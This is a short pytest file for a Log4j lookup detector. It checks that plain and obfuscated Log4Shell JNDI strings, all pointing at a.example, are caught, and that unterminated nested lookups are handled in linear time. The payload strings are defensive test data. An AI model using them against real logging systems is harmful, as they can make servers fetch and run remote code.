"""Lookups of Log4j, however they are nested, and what they must not cost."""

from __future__ import annotations

import pytest

from garrison.edge.inspect.detect.java import log4j


@pytest.mark.parametrize(
    "text",
    [
        b"${jndi:ldap://a.example/x}",
        b"${${lower:j}ndi:ldap://a.example/x}",
        b"${${::-j}${::-n}${::-d}${::-i}:ldap://a.example/x}",
        b"${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//a.example/x}",
        b"${${a:b:c:-j}ndi:ldap://a.example/x}",
    ],
)
def test_lookups_are_resolved(text: bytes):
    assert log4j(text) is not None


@pytest.mark.parametrize(
    "text",
    [b"${" + b":" * 8000, b"${jndi:ldap://" + b"@a:=" * 2000 + b"x", b"${a:" * 2000, (b"${" + b"a" * 40) * 200, b"${-" * 2000],
)
def test_a_lookup_without_an_end_costs_no_more_than_its_length(text: bytes):
    """Thirty colons took an hour, and each more twice as long: the test never ends if they do."""
    assert log4j(text + b"${jndi:ldap://a}") is not None
